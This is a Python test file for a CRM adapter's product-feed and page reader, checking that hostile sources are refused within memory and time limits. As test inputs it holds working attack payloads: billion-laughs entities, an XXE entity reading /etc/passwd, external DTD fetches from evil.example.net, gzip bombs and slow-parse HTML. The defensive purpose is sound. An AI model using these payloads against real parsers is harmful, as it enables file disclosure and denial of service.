"""What a hostile or broken source may send: it costs a little time, and never memory, files or calls to others."""

import gzip
import time
import tracemalloc
import zlib

import pytest

from crm_adapters.errors import BadSource
from crm_adapters.product_pages import adapter as product_pages
from crm_adapters.product_pages import fetch, inflate, site_reader, xml
from crm_adapters.product_pages.page import read_page
from crm_adapters.product_pages.product import rows_of
from crm_adapters.records import Stream
from tests.crm_adapters.product_pages.shop import feed, item, page, product, sitemap

LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
BILLION = f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY l0 "ha">{LAUGHS}]><rss><item><id>&l9;</id></item></rss>'
SECRET = (
    '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]><rss><item><id>&x;</id></item></rss>'
)
OUTSIDE = '<?xml version="1.0"?><!DOCTYPE rss SYSTEM "http://evil.example.net/x.dtd"><rss><item><id>1</id></item></rss>'
PARAMETER = '<!DOCTYPE rss [<!ENTITY % x SYSTEM "http://evil.example.net/"> %x;]><rss/>'


@pytest.mark.parametrize("text", [BILLION, SECRET, OUTSIDE, PARAMETER], ids=["laughs", "file", "dtd", "parameter"])
def test_entities_and_document_types_are_refused(shop, opened, pull, text):
    shop.put("/feed.xml", text)
    with pytest.raises(BadSource, match="declares a document type, which is not read"):
        pull(opened("/feed.xml"))
    shop.put("/feed.xml", feed(item()).replace("<channel>", "<channel>" + "<a/>" * 5_000 + "&l9;"))
    with pytest.raises(BadSource, match="undefined entity"):
        pull(opened("/feed.xml"))


def test_a_document_type_behind_the_first_bytes_is_refused_too(shop, opened, pull):
    shop.put("/feed.xml", f"<!--{'x' * 9_000}-->{BILLION.partition('?>')[2]}")
    with pytest.raises(BadSource):
        pull(opened("/feed.xml"))


def test_elements_without_end_within_one_another_are_refused(shop, opened, pull):
    shop.put("/feed.xml", "<rss><item>" + "<a>" * 100_000)
    with pytest.raises(BadSource, match="more than 100 elements within one another"):
        pull(opened("/feed.xml"))


def test_a_record_without_end_is_refused(shop, opened, pull, monkeypatch):
    monkeypatch.setattr(xml, "MOST_LETTERS", 1_000)
    for text in (feed(item(title="x" * 2_000)), feed(item()).replace("</item>", "<a b='x'/>" * 500 + "</item>")):
        shop.put("/feed.xml", text)
        with pytest.raises(BadSource, match="a record of more than"):
            pull(opened("/feed.xml"))


def bomb(size, layers=1):
    """So many zeros, packed once or twice."""
    packer = zlib.compressobj(9, wbits=31)
    packed = b"".join(packer.compress(bytes(1 << 20)) for _ in range(size >> 20)) + packer.flush()
    return gzip.compress(packed) if layers == 2 else packed


@pytest.mark.parametrize("layers", [1, 2])
def test_a_bomb_is_unpacked_only_as_far_as_it_fits(shop, opened, pull, monkeypatch, layers):
    monkeypatch.setattr(product_pages, "FEED_BYTES", 4 << 20)
    monkeypatch.setattr(fetch, "IN_MEMORY", 1 << 20)
    shop.put("/feed.xml", bomb(60 << 20, layers), headers={"Content-Encoding": "gzip"})
    tracemalloc.start()
    try:
        with pytest.raises(BadSource, match="more than 4 MB"):
            pull(opened("/feed.xml"))
        assert tracemalloc.get_traced_memory()[1] < 6 << 20
    finally:
        tracemalloc.stop()


def test_a_page_that_is_a_bomb_is_rejected(shop, opened, pull, monkeypatch):
    monkeypatch.setattr(site_reader, "PAGE_BYTES", 1 << 20)
    shop.put("/p/1", bomb(20 << 20), headers={"Content-Encoding": "gzip"})
    shop.put("/p/2", page(product()))
    shop.put("/sitemap.xml", sitemap([(f"{shop.url}/p/{n}", None) for n in (1, 2)]))
    rows, (reject,), _ = pull(opened())
    assert (len(rows), reject.reason, reject.detail) == (1, "too_large", "more than 1 MB")


@pytest.mark.parametrize("cut", range(1, 38))
def test_a_gzip_that_breaks_off_is_told_and_never_taken_for_the_whole(cut):
    packed = gzip.compress(b"0123456789abcdefghij", mtime=0)
    with pytest.raises(inflate.BadGzip):
        list(inflate.unpacked([packed[:-cut]]))


def test_gzip_in_pieces_and_in_several_members_is_one():
    packed = gzip.compress(b"one ") + gzip.compress(b"two") + b"\0\0"
    for size in (1, 2, 3, 1_000):
        pieces = [packed[at : at + size] for at in range(0, len(packed), size)]
        assert b"".join(inflate.unpacked(pieces)) == b"one two"
    assert b"".join(inflate.unpacked([b"", b"pl", b"ain"])) == b"plain"
    assert b"".join(inflate.unpacked([])) == b""


def test_an_answer_that_never_ends_is_cut_off(shop, opened, pull, clock, monkeypatch):
    shop.put("/feed.xml", feed(*(item(str(n)) for n in range(2_000))))
    ticking = iter(range(0, 10**9, 600))
    monkeypatch.setattr(clock, "now", lambda: next(ticking))
    with pytest.raises(BadSource, match="takes more than 30 minutes"):
        pull(opened("/feed.xml"))


HEAVY = {
    "open tags": "<div>" * 50_000,
    "open brackets": "<" * 200_000,
    "declarations": "<!" * 20_000,
    "comments": "<!--" * 20_000,
    "entities": "&" * 200_000,
    "attributes": "<a " + "b=c " * 100_000 + ">",
    "quotes": '<a b="' * 20_000,
    "scripts": "<script type='application/ld+json'>" * 2_000,
    "comment signs": f"<script type='application/ld+json'>{'/*' * 200_000}</script>",
    "brackets of JSON": f"<script type='application/ld+json'>{'[' * 200_000}</script>",
    "quotes of JSON": "<script type='application/ld+json'>" + '"\\' * 100_000 + "</script>",
    "spaces of JSON": "<script type='application/ld+json'>{" + " " * 50_000 + "x</script>",
    "commas of JSON": "<script type='application/ld+json'>{" + ", " * 50_000 + "x</script>",
    "a long number": "<script type='application/ld+json'>" + "9" * 200_000 + "</script>",
    "scopes": "<div itemscope itemprop=x itemtype='https://schema.org/Product'>" * 3_000,
    "scopes side by side": "<div itemscope itemtype='https://schema.org/Product'><b itemprop=name>x</b></div>" * 3_000,
}


@pytest.mark.parametrize("html", HEAVY.values(), ids=HEAVY.keys())
def test_a_page_made_to_be_slow_is_read_soon(html):
    start = time.process_time()
    try:
        said = read_page(f"<html><body>{html}".encode(), "https://shop.example.com/")
    except ValueError:
        return
    rows_of(said, lambda _: True)
    assert time.process_time() - start < 5


def test_nothing_of_a_pull_is_left_open(shop, opened):
    import gc

    shop.put("/feed.xml", feed(*(item(str(n)) for n in range(10))))
    pulling = opened("/feed.xml", page_records=2).pull(Stream.PRODUCTS, None)
    next(pulling)
    del pulling
    gc.collect()  # a warning of an open file fails the test
